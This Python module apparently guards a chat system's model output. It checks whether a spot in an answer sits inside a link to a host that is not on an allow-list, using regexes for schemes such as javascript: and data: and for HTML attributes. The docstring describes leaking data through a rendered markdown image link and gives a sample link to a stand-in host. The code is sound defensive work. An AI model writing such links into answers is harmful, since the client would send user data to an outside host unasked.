"""Whether a place in a model's answer lies inside a link, and to which host (robustness: exfiltration by rendering).

A chat client that renders ``![](https://elsewhere.example/?q=...)`` sends what stands in the address to that host,
unasked. A value is therefore put back into an address only when its host is on the allow-list. What renderers accept
as an address is a wide field, so the rule is careful: what only looks like one, or cannot be read, counts as one.
"""

from __future__ import annotations

import html
import re
from typing import Final

_REACH: Final = 8192
"""Characters before and after a place that are looked at: more than a unit and its left context."""
_RUN_BEFORE: Final = re.compile(r"[^\s<>\"`]*\Z")
_NEAR: Final = 64
"""Characters in which the run before a place nearly always begins: looking through all of them took 60 us."""
_RUN_ENDS: Final = re.compile(r"[\s<>\"`]")
_START: Final = re.compile(
    r"[a-z][a-z0-9+.-]{0,30}:[/\\]"
    r"|[/\\]{2}"
    r"|(?<![\w.-])www\."
    r"|(?<![\w.-])(?:https?|ftp|wss?|mailto|tel|sms|javascript|vbscript|file|blob|intent|cid|skype|whatsapp|facetime):"
    r"|(?<![\w.-])data:[a-z]+/"
    r"|(?<![\w@.-])(?:[a-z0-9-]+\.)+[a-z]{2,24}(?::\d+)?[/?#]",
    re.IGNORECASE,
)
"""Where an address may start inside a run without white space."""
_DESTINATION: Final = re.compile(
    r"\]\(\s*(?P<link><[^<>\n]*|[^()\n]*(?:\([^()\n]*\)[^()\n]*)*)\Z"
    r"|^[ ]{0,3}\[[^\]\n]+\]:\s*(?P<reference>[^\n]*)\Z"
    r"|\b(?:src|href|srcset|imagesrcset|action|formaction|poster|background|data|cite|ping|longdesc|manifest|content|style)"
    r"\s*=\s*(?:\"(?P<double>[^\"]*)|'(?P<single>[^']*))\Z"
    r"|\burl\(\s*[\"']?(?P<css>[^)\"']*)\Z",
    re.IGNORECASE | re.MULTILINE,
)
"""An opened destination that the place stands in; white space may be in it."""
_OPEN: Final = re.compile(r"\]\(|\]:|=\s*[\"']|url\(", re.IGNORECASE)
_OPENS: Final = ("](", "]:", "=", "url(")
"""One of these is in whatever `_OPEN` finds, in lower case."""
_STILL_OPEN: Final = re.compile(
    r"\]\([^)\n]*\Z|^\[[^\]\n]+\]:[^\S\n]+\Z|\b(?:src|srcset|href|action|style)\s*=\s*(?:\"[^\"]*|'[^']*)\Z|\burl\([^)\n]*\Z",
    re.IGNORECASE,
)
_LONGEST_OPEN: Final = 512
_OWN_ADDRESS: Final = re.compile(r"(?:mailto|tel|sms):\Z", re.IGNORECASE)
_OPENING: Final = "[(<{\\"
_LONGEST_OWN: Final = len("mailto:")
_AUTHORITY: Final = re.compile(r"(?:(?:https?|ftp|wss?):)?//([^/?#]*)[/?#]", re.IGNORECASE)
_SCHEMELESS: Final = re.compile(r"([a-z0-9.-]+)(?::\d+)?[/?#]", re.IGNORECASE)
_HOST: Final = re.compile(r"([^\s@:\[\]%]+)(?::\d{1,5})?")
_RELATIVE: Final = re.compile(r"(?:[#?]|\.{0,2}/(?![/\\])|[\w-]+(?:/|\Z))")
_DOMAIN_AFTER: Final = re.compile(
    r"[\w-]*(?:(?:\.[a-z0-9-]+)+\.[a-z]{2,24}\b|\.[a-z]{2,24}(?::\d+)?[/?#])", re.IGNORECASE
)


def inside_foreign_link(text: str, start: int, end: int, hosts: frozenset[str]) -> bool:
    """Whether ``text[start:end]`` stands inside a link to a host that is not in `hosts` (lower case, exact)."""
    before = text[max(0, start - _REACH) : start]
    if _OWN_ADDRESS.search(before.rstrip(_OPENING)[-_LONGEST_OWN:]):
        return False
    if _DOMAIN_AFTER.match(text, end, end + 255):
        return True
    run = _run(before)
    if any(not _allowed(run[found.start() :], hosts) for found in _START.finditer(run)):
        return True
    return _destination_is_foreign(before, hosts)


def _run(before: str) -> str:
    """The characters without white space or quotes that a text ends with."""
    if before[-1:].isspace():
        return ""
    near = before[-_NEAR:]
    found = _RUN_BEFORE.search(near if _RUN_ENDS.search(near) else before)
    return found[0] if found else ""


def _destination_is_foreign(before: str, hosts: frozenset[str]) -> bool:
    lowered = before.lower()
    if not any(sign in lowered for sign in _OPENS) or not _OPEN.search(before):
        return False
    found = _DESTINATION.search(before)
    if found is None or found.lastgroup is None:
        return False
    address = re.sub(r"[\t\r\n]", "", html.unescape(found[found.lastgroup])).strip(" <\"'")
    # A style or content attribute holds text in which an address may stand anywhere.
    addresses = [address, *(address[inner.start() :] for inner in _START.finditer(address))]
    return any(not (_is_relative(each) or _allowed(each, hosts)) for each in addresses)


def _is_relative(address: str) -> bool:
    """An address on the client's own site: no scheme, no authority, nothing that reads as a host."""
    return not address or (
        _START.match(address) is None and ":" not in address and _RELATIVE.match(address) is not None
    )


def _allowed(address: str, hosts: frozenset[str]) -> bool:
    """Whether the host of an address is on the list and complete. Anything unusual is refused."""
    if "\\" in address:
        return False
    found = _AUTHORITY.match(address) or _SCHEMELESS.match(address)
    if found is None:
        return False
    host = _HOST.fullmatch(found[1])
    return host is not None and host[1].lower().rstrip(".") in hosts


def destination_open(unit: str) -> bool:
    """Whether a unit ends inside a destination that may have white space in it, so that it must not be cut there."""
    if "](" not in unit and "]:" not in unit and "=" not in unit and "(" not in unit:
        return False
    return len(unit) <= _LONGEST_OPEN and _OPEN.search(unit) is not None and _STILL_OPEN.search(unit) is not None


def ends_in_address(unit: str, *, within: bool) -> bool:
    """Whether a unit, cut by force, ends in the middle of an address; `within` says whether it began in one."""
    run = _RUN_BEFORE.search(unit)
    if run is None or not run[0]:
        return False
    return _START.search(run[0]) is not None or (within and len(run[0]) == len(unit))
